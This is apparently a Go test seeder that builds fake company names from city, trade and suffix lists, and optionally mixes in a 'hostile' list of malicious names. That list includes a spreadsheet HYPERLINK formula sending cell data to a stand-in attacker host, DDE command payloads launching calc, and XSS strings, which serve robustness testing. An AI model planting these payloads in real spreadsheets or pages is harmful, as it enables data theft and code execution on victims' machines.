package dakotatest

import (
	"strconv"
	"strings"
)

var cities = []string{"Aurora", "Bergen", "Córdoba", "Dakota", "Évora", "Fairbanks", "Göteborg", "Hamar", "Ílhavo", "Juneau", "Kraków", "Łódź"}

var trades = []string{"Bakery", "Logistics", "Músíca", "Optik", "Pharma", "Steel", "Textiles", "Винодел", "工房", "קפה", "Ωmega", "Café"}

var companies = []string{"LLC", "GmbH", "Ltd.", "S.A.", "Inc.", "AB", "株式会社", "Sp. z o.o."}

// hostile are names that do harm where they are taken for more than text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3",
	"<script>alert(1)</script>",
	`"><img src=x onerror=alert(1)>`,
	"\x1b[31mred\x1b[0m \x1b]0;title\x07",
	"two\nlines\r\nand a\ttab",
	"right\u202eto left\u202c, zero\u200bwidth, nbsp\u00a0here",
	`quote " comma , semicolon ; pipe | 'apostrophe'`,
	"null",
	strings.Repeat("long ", 2000),
	"👩🏽‍🚀 Zoë & Söhne <GmbH>",
	"]]> & &amp; <!-- -->",
}

func (g *seeder) name(i int) string {
	if g.HostileNames && i%5 == 0 {
		return hostile[i/5%len(hostile)]
	}
	pick := func(from []string) string { return from[g.rnd.IntN(len(from))] }
	return pick(cities) + " " + pick(trades) + " " + strconv.Itoa(i) + " " + pick(companies)
}
